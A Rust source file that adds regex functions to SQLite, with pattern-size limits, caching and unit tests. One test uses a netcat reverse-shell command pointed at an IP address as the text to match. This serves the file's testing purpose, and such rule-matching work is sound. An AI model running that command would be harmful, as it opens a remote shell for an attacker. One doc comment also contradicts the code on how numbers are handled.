//! The SQL functions beyond SQLite's core: `REGEXP` and `regex_match(text, pattern, group)`.
//!
//! Patterns are Rust `regex` syntax (linear time: no look-around, no backreferences), so a
//! hostile pattern cannot backtrack for hours. Each pattern is bounded in length and in compiled
//! size, and compiled patterns are cached twice: per statement in SQLite's auxiliary data (the
//! common case of a constant pattern), and per connection in a small map, so that the same
//! pattern in many rules is compiled once.

use std::collections::HashMap;
use std::sync::{Arc, Mutex, PoisonError};

use regex::{Regex, RegexBuilder};
use rusqlite::Connection;
use rusqlite::functions::{Context, FunctionFlags};
use rusqlite::types::{Value, ValueRef};

/// The longest pattern accepted, in bytes.
pub const MAX_PATTERN_BYTES: usize = 4096;
/// The most memory one compiled pattern may take.
const MAX_COMPILED_BYTES: usize = 2 * 1024 * 1024;
/// Patterns kept in the per-connection cache before it is emptied.
const CACHE_ENTRIES: usize = 512;

type Cache = Arc<Mutex<HashMap<String, Arc<Regex>>>>;

/// Registers `regexp` (the `REGEXP` operator) and `regex_match` on `conn`.
pub fn register(conn: &Connection) -> rusqlite::Result<()> {
    let flags = FunctionFlags::SQLITE_UTF8 | FunctionFlags::SQLITE_DETERMINISTIC;
    let cache: Cache = Arc::default();
    let for_regexp = Arc::clone(&cache);
    // `X REGEXP Y` calls regexp(Y, X): the pattern comes first.
    conn.create_scalar_function("regexp", 2, flags, move |ctx| {
        let regex = pattern(ctx, 0, &for_regexp)?;
        Ok(text(ctx, 1)?.map(|text| regex.is_match(text)))
    })?;
    conn.create_scalar_function("regex_match", 3, flags, move |ctx| {
        let regex = pattern(ctx, 1, &cache)?;
        let group = match ctx.get_raw(2) {
            ValueRef::Integer(group) => usize::try_from(group)
                .map_err(|_| user_error(format!("regex_match: group {group} is negative")))?,
            ValueRef::Null => return Ok(Value::Null),
            _ => return Err(user_error("regex_match: the group must be an integer")),
        };
        let Some(text) = text(ctx, 0)? else {
            return Ok(Value::Null);
        };
        Ok(regex
            .captures(text)
            .and_then(|captures| captures.get(group))
            .map_or(Value::Null, |found| Value::Text(found.as_str().to_owned())))
    })
}

/// The text argument `index`: `None` for NULL; numbers are matched in their text form, as
/// SQLite's own LIKE does.
fn text<'a>(ctx: &'a Context<'_>, index: usize) -> rusqlite::Result<Option<&'a str>> {
    match ctx.get_raw(index) {
        ValueRef::Null => Ok(None),
        ValueRef::Text(bytes) => std::str::from_utf8(bytes)
            .map(Some)
            .map_err(|_| user_error("regexp: the text is not UTF-8")),
        // Numbers are rare in pattern matching; their text form is what a user expects.
        ValueRef::Integer(_) | ValueRef::Real(_) | ValueRef::Blob(_) => {
            Err(user_error("regexp: only text can be matched"))
        }
    }
}

/// The compiled pattern in argument `index`, from the statement's auxiliary data, the cache, or
/// compiled now.
fn pattern(ctx: &Context<'_>, index: usize, cache: &Cache) -> rusqlite::Result<Arc<Regex>> {
    // The argument index always fits: our functions take two or three.
    let slot = i32::try_from(index).unwrap_or(i32::MAX);
    let regex: Arc<Arc<Regex>> = ctx.get_or_create_aux(slot, |value| -> Result<_, String> {
        let ValueRef::Text(bytes) = value else {
            return Err("regexp: the pattern must be text".to_owned());
        };
        let source = std::str::from_utf8(bytes).map_err(|_| "regexp: the pattern is not UTF-8")?;
        compile(source, cache)
    })?;
    Ok(Arc::clone(&regex))
}

/// Compiles `source` within the bounds, through the cache.
fn compile(source: &str, cache: &Cache) -> Result<Arc<Regex>, String> {
    if source.len() > MAX_PATTERN_BYTES {
        return Err(format!(
            "regexp: the pattern is {} bytes long, more than the {MAX_PATTERN_BYTES} allowed",
            source.len()
        ));
    }
    // A poisoned cache only means another rule's thread panicked mid-insert; the map is
    // still a valid map.
    let mut cached = cache.lock().unwrap_or_else(PoisonError::into_inner);
    if let Some(regex) = cached.get(source) {
        return Ok(Arc::clone(regex));
    }
    let regex = RegexBuilder::new(source)
        .size_limit(MAX_COMPILED_BYTES)
        .dfa_size_limit(MAX_COMPILED_BYTES)
        .build()
        .map_err(|err| {
            let first_line = err.to_string();
            let reason = first_line
                .lines()
                .last()
                .unwrap_or("invalid pattern")
                .trim();
            format!("regexp: invalid pattern {source:?}: {reason}")
        })?;
    if cached.len() >= CACHE_ENTRIES {
        cached.clear();
    }
    let regex = Arc::new(regex);
    cached.insert(source.to_owned(), Arc::clone(&regex));
    Ok(regex)
}

fn user_error(message: impl Into<String>) -> rusqlite::Error {
    rusqlite::Error::UserFunctionError(message.into().into())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn conn() -> Connection {
        let conn = Connection::open_in_memory().unwrap();
        register(&conn).unwrap();
        conn
    }

    fn check(sql: &str, expected: Value) {
        let got: Value = conn()
            .query_row(sql, [], |row| row.get(0))
            .unwrap_or_else(|err| panic!("{sql}: {err}"));
        assert_eq!(got, expected, "{sql}");
    }

    #[test]
    fn regexp_and_regex_match() {
        check("SELECT 'abc' REGEXP 'b+'", Value::Integer(1));
        check("SELECT 'abc' REGEXP '^b'", Value::Integer(0));
        check("SELECT NULL REGEXP 'b'", Value::Null);
        check(
            "SELECT regex_match('nc -e /bin/sh 10.0.0.1', '-e (\\S+)', 1)",
            Value::Text("/bin/sh".into()),
        );
        check("SELECT regex_match('abc', 'x(y)', 1)", Value::Null);
        check("SELECT regex_match('abc', '(b)', 5)", Value::Null);
        check("SELECT regex_match(NULL, '(b)', 1)", Value::Null);
    }

    #[test]
    fn bad_patterns_fail_the_query_with_a_reason() {
        let conn = conn();
        for (sql, reason) in [
            ("SELECT 'a' REGEXP '('", "invalid pattern"),
            ("SELECT 'a' REGEXP '(?=a)'", "invalid pattern"),
            ("SELECT 'a' REGEXP 5", "the pattern must be text"),
            ("SELECT regex_match('a', 'a', -1)", "is negative"),
            ("SELECT 5 REGEXP 'a'", "only text can be matched"),
        ] {
            let err = conn
                .query_row(sql, [], |row| row.get::<_, Value>(0))
                .unwrap_err();
            assert!(err.to_string().contains(reason), "{sql}: {err}");
        }
        let long = format!("SELECT 'a' REGEXP '{}'", "a".repeat(MAX_PATTERN_BYTES + 1));
        let err = conn
            .query_row(&long, [], |row| row.get::<_, Value>(0))
            .unwrap_err();
        assert!(
            err.to_string().contains("more than the 4096 allowed"),
            "{err}"
        );
        // A pattern whose compiled form is too big: a{1000} nested.
        let huge = "SELECT 'a' REGEXP '((a{100}){100}){100}'";
        let err = conn
            .query_row(huge, [], |row| row.get::<_, Value>(0))
            .unwrap_err();
        assert!(err.to_string().contains("invalid pattern"), "{err}");
    }

    #[test]
    fn the_cache_returns_the_same_compiled_pattern() {
        let cache: Cache = Arc::default();
        let first = compile("a+b", &cache).unwrap();
        let second = compile("a+b", &cache).unwrap();
        assert!(Arc::ptr_eq(&first, &second));
        for i in 0..CACHE_ENTRIES {
            compile(&format!("x{i}"), &cache).unwrap();
        }
        assert!(cache.lock().unwrap().len() <= CACHE_ENTRIES);
    }
}
